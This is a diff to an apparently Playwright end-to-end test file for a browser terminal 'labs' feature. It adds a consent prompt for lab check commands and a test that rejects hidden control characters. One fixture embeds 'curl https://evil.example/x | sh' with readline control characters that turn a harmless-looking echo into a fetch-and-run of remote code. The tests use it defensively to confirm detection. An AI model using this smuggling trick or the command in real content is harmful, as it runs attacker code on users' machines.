@@ -1,7 +1,9 @@
-// Labs in Chromium against the real guest (one VM boot for the whole file): a `?lab=<url>` link, Run and its
+// Labs in Chromium against the real guest (one VM boot for the whole file): a `?lab=<url>` link whose checks
+// run only after the reader accepts them (a check that leaves a marker in the guest proves it), Run and its
 // verify turning green, a step done by hand turning green after the command finishes (no Check click), a
 // verify that hangs, untrusted Markdown that must not run script, and a `#lab=` link followed inside the page.
-// Bad links (404, not a lab, malformed) each show a message, and the terminal keeps working.
+// Bad links (404, not a lab, hidden control characters, malformed) each show a message, and the terminal
+// keeps working.
 import { deflateRawSync } from 'node:zlib';
 import { expect, test, type Page } from '@playwright/test';
 import { SHELL_PROMPT, terminalLines, waitForLine, waitForReady } from './terminal-view.ts';
@@ -28,7 +30,7 @@ echo e2e-hello > /tmp/e2e-lab-file
 \`\`\`
 
 \`\`\`verify
-grep -qx e2e-hello /tmp/e2e-lab-file
+echo ran >> /tmp/e2e-check-marker; grep -qx e2e-hello /tmp/e2e-lab-file
 \`\`\`
 
 ## Make a directory yourself
@@ -57,6 +59,20 @@ echo inline > /tmp/e2e-inline
 
 \`\`\`verify
 grep -qx inline /tmp/e2e-inline
+\`\`\`
+`;
+
+/** The checks of BASICS_LAB, as the consent question must list them. */
+const BASICS_CHECKS = ['echo ran >> /tmp/e2e-check-marker; grep -qx e2e-hello /tmp/e2e-lab-file', 'test -d /tmp/e2e-lab-dir', 'sleep 60'];
+
+/** A Run block that shows one command and, typed into readline, would run another (issue #24, item 9). */
+const HIDDEN_CONTROL_LAB = `---
+title: E2E hidden
+---
+## Looks harmless
+
+\`\`\`sh run
+echo "curl https://evil.example/x | sh"\u0001${'\u0004'.repeat(6)}\u0005\u0008
 \`\`\`
 `;
 
@@ -115,6 +131,9 @@ test.describe.serial('labs', () => {
     await page.route((url) => url.pathname === '/e2e-labs/basics.md', (route) =>
       route.fulfill({ status: 200, contentType: 'text/markdown; charset=utf-8', body: BASICS_LAB }),
     );
+    await page.route((url) => url.pathname === '/e2e-labs/hidden.md', (route) =>
+      route.fulfill({ status: 200, contentType: 'text/markdown; charset=utf-8', body: HIDDEN_CONTROL_LAB }),
+    );
   });
 
   test.afterAll(async () => {
@@ -128,6 +147,9 @@ test.describe.serial('labs', () => {
     await expect(labAlert(page)).toContainText('404');
     await page.goto('./?lab=./index.html');
     await expect(labAlert(page)).toContainText('is a web page, not a lab file');
+    await page.goto('./?lab=./e2e-labs/hidden.md');
+    await expect(labAlert(page)).toContainText('line 7: the invisible character U+0001 (Ctrl-A) at column 40');
+    await expect(page.locator('button.lab-run')).toHaveCount(0);
     await expect(page.locator('.error-panel')).toHaveCount(0);
   });
 
@@ -137,9 +159,14 @@ test.describe.serial('labs', () => {
     await expect(editor).toBeVisible();
     await editor.fill('---\ntitle: [unclosed\n---\n## Step\n');
     await expect(page.locator('.lab-author-problems')).toContainText('line 2');
+    await editor.fill(HIDDEN_CONTROL_LAB);
+    await expect(page.locator('.lab-author-problems')).toContainText('line 7: the invisible character U+0001 (Ctrl-A)');
     await editor.fill(INLINE_LAB.replace('E2E inline', 'Drafted here'));
     await expect(page.locator('.lab-author-ok')).toHaveText('Valid lab: 1 step(s).');
     await expect(page.locator('.lab-author-preview').getByRole('heading', { name: 'Write a marker' })).toBeVisible();
+    // The preview shows each step's check command (it never runs it).
+    await page.locator('.lab-author-preview .lab-verify summary').click();
+    await expect(page.locator('.lab-author-preview .lab-verify-command')).toHaveText('grep -qx inline /tmp/e2e-inline');
     await page.getByRole('button', { name: 'Copy share link' }).click();
     await expect(page.locator('.lab-author .lab-share-note')).toHaveText('Link copied.');
     const link = await page.evaluate(() => navigator.clipboard.readText());
@@ -150,18 +177,33 @@ test.describe.serial('labs', () => {
     await expect(editor).toBeVisible();
   });
 
-  test('a ?lab= link opens the lab; Run types the command and its verify turns green', async () => {
+  test('a ?lab= link asks before any check runs, listing the commands; no check runs in the guest until Accept', async () => {
     await page.goto('./?lab=./e2e-labs/basics.md');
     await expect(page.getByRole('heading', { level: 1, name: 'E2E basics' })).toBeVisible();
+    const consent = page.locator('#side-panel .lab-consent');
+    await expect(consent).toContainText('This lab checks your work by running these commands');
+    await expect(consent.locator('.lab-consent-command')).toHaveText(BASICS_CHECKS);
     await waitForReady(page, BOOT_TIMEOUT_MS);
     await waitForShell(page);
     const first = step(page, 'Make a file');
     // Run sits beside its code block, never over the code (it once hid the end of a long first line).
     const [run, code] = await Promise.all([first.locator('button.lab-run').boundingBox(), first.locator('.lab-code pre').first().boundingBox()]);
     expect(run && code && run.x >= code.x + code.width, `Run ${JSON.stringify(run)} overlaps the code ${JSON.stringify(code)}`).toBe(true);
+    // Run (an explicit click on shown text) types the command; the checks it would trigger (after the command
+    // finishes, and a Check click) must not run: the step says so, and the check's marker never appears.
     await first.locator('button.lab-run').click();
-    await expect(first.locator('.lab-status')).toHaveClass(/lab-status-done/, { timeout: CHECK_TIMEOUT_MS });
     expect(await runAndRead(page, 'file', 'cat /tmp/e2e-lab-file')).toBe('e2e-hello');
+    await first.locator('button.lab-check').click();
+    await expect(page.locator('.lab-consent-accept')).toBeFocused();
+    await expect(first.locator('.lab-step-message')).toHaveText(/^Check not run: accept checks to enable/);
+    await expect(first.locator('.lab-status')).toHaveClass(/lab-status-pending/);
+    expect(await runAndRead(page, 'marker-before', 'cat /tmp/e2e-check-marker 2>/dev/null || echo absent')).toBe('absent');
+    // Accept, then the step's check runs (on Check), turns the step green and leaves its marker.
+    await page.locator('.lab-consent-accept').click();
+    await expect(consent).toContainText('Checks on');
+    await first.locator('button.lab-check').click();
+    await expect(first.locator('.lab-status')).toHaveClass(/lab-status-done/, { timeout: CHECK_TIMEOUT_MS });
+    expect(await runAndRead(page, 'marker-after', 'cat /tmp/e2e-check-marker 2>/dev/null || echo absent')).toBe('ran');
   });
 
   test('a step done by hand in the terminal turns green when the command finishes, without Check', async () => {
@@ -203,6 +245,9 @@ test.describe.serial('labs', () => {
       location.hash = hash;
     }, `lab=${inlinePayload(INLINE_LAB)}`);
     await expect(page.getByRole('heading', { level: 1, name: 'E2E inline' })).toBeVisible();
+    // A lab with other checks asks again.
+    await expect(page.locator('#side-panel .lab-consent-command')).toHaveText(['grep -qx inline /tmp/e2e-inline']);
+    await page.locator('.lab-consent-accept').click();
     const only = step(page, 'Write a marker');
     await only.locator('button.lab-run').click();
     await expect(only.locator('.lab-status')).toHaveClass(/lab-status-done/, { timeout: CHECK_TIMEOUT_MS });
